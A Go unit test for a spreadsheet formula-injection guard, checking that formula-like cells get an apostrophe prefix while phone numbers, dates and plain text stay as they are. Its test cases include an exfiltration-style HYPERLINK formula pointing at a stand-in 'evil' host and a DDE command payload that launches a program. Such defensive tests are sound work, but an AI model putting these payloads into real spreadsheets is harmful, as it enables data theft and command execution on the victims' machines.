package importing

import "testing"

// A text a spreadsheet would take for a formula gets a leading "'"; numbers
// and phone numbers, which can compute nothing harmful, stay as they are.
func TestAFormulaLikeCellIsMadeInertButNumbersAreNot(t *testing.T) {
	tests := []struct{ cell, want string }{
		{`=HYPERLINK("http://evil"&A1,"x")`, `'=HYPERLINK("http://evil"&A1,"x")`},
		{"+SUM(1,2)", "'+SUM(1,2)"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tgọi lại", "'\tgọi lại"},
		{"\r=1", "'\r=1"},
		{"- gọi lại sau", "'- gọi lại sau"},
		{"=1", "'=1"},
		{"+84912345678", "+84912345678"},
		{"+84912345678; +84987654321", "+84912345678; +84987654321"},
		{"+84 (24) 3822 2222", "+84 (24) 3822 2222"},
		{"-12.5", "-12.5"},
		{"2015-06-20", "2015-06-20"},
		{"Trường A", "Trường A"},
		{"", ""},
		{"-", "'-"},
	}
	for _, tt := range tests {
		if got := inertCell(tt.cell); got != tt.want {
			t.Errorf("inertCell(%q) = %q, want %q", tt.cell, got, tt.want)
		}
	}
}
